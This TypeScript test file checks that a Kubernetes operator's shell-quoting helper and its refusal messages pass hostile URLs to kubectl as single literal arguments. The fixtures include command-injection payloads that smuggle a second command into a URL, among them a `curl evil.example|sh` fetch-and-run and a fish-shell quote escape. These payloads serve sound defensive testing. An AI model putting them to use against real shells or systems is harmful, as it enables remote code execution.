import { execFileSync } from 'node:child_process';
import test from 'ava';
import { shellWord } from '../../src/lib/shell-word.ts';
import { credentialUrlRefusal } from '../../src/operator/control-plane/credential-url.ts';

// What a real shell makes of `command` when `kubectl` (its first word) is replaced by a printer of
// its arguments: the argument list the pasted command would give kubectl, and no side effects.
function argumentsFrom(shell: string, command: string): string[] {
  const printed = command.replace(/^kubectl /, `printf '%s\\0' `);
  const out = execFileSync(shell, ['-c', printed], {
    encoding: 'utf8',
    env: { PATH: process.env.PATH ?? '' },
  });
  return out.split('\0').slice(0, -1);
}

// `${IFS}` is the shell's, not a template placeholder: the reviewer's URL, which the CRD admits.
const IFS = '$' + '{IFS}';
const hostile = [
  `https://evil.example/$(curl${IFS}-s${IFS}evil.example|sh)`,
  `https://evil.example/\`id\`;touch${IFS}/tmp/owned`,
  "https://evil.example/it's;$HOME&&echo",
  "https://evil.example/a'\"\\'$x*?[a]{b,c}~!#",
  '=ls',
  '~root',
  '',
];

test('shellWord: any text arrives as one literal argument in sh and bash', (t) => {
  for (const shell of ['sh', 'bash']) {
    for (const text of [...hostile, 'https://vaultpam.example.com:8443/a/b', "'", "''"]) {
      t.deepEqual(
        argumentsFrom(shell, `kubectl ${shellWord(text)} next`),
        [text, 'next'],
        `${shell}: ${text}`,
      );
    }
  }
});

test('shellWord: plain words stay unquoted, the rest in single quotes', (t) => {
  t.is(
    shellWord('vaultpam.io/control-plane-url=https://vaultpam.example.com'),
    'vaultpam.io/control-plane-url=https://vaultpam.example.com',
  );
  t.is(shellWord('team-a'), 'team-a');
  t.is(shellWord('a b'), "'a b'");
  t.is(shellWord("it's"), "'it'\\''s'");
  t.is(shellWord('=ls'), "'=ls'", 'zsh expands a leading =');
  t.is(shellWord(''), "''");
});

test('the refusal’s annotate command gives kubectl the URL a control-plane author wrote as one literal argument (it ran their code before)', (t) => {
  const secret = { namespace: 'team-a', name: 'admin' };
  const annotate = ['-n', 'team-a', 'annotate', 'secret', 'admin'];
  for (const url of hostile.slice(0, 3)) {
    const cases: Array<['unannotated' | 'elsewhere', string, string[]]> = [
      ['unannotated', 'they run: ', [`vaultpam.io/control-plane-url=${url}`]],
      ['elsewhere', 'spaces): ', ['--overwrite', `vaultpam.io/control-plane-url=<the URLs it lists> ${url}`]],
    ];
    for (const [problem, before, rest] of cases) {
      const message = credentialUrlRefusal(problem, secret, url, 'the operator');
      const command = message.slice(message.indexOf(before) + before.length);
      t.deepEqual(argumentsFrom('bash', command), [...annotate, ...rest], `${problem}: ${url}`);
    }
  }
});

test("a URL with a backslash or beyond printable ASCII gets no ready-made command (fish reads \\' inside single quotes)", (t) => {
  // A review: fish takes \' and \\ inside single quotes as escapes, so the review's
  // https://evil.example/x\';id;' (the CRD admits it) ended the quoting there and ran `id`.
  const secret = { namespace: 'team-a', name: 'admin' };
  for (const url of ["https://evil.example/x\\';id;'", 'https://evil.example/a b', 'https://évil.example/']) {
    for (const problem of ['unannotated', 'elsewhere'] as const) {
      const message = credentialUrlRefusal(problem, secret, url, 'the operator');
      t.false(message.includes('kubectl'), `${problem}: ${url}: ${message}`);
      t.regex(message, /no command is printed, as the URL holds characters a shell may read specially/);
    }
  }
  t.regex(
    credentialUrlRefusal('unannotated', secret, 'https://vaultpam.example.com', 'the operator'),
    /they run: kubectl -n team-a annotate secret admin vaultpam\.io\/control-plane-url=https:\/\/vaultpam\.example\.com$/,
  );
});
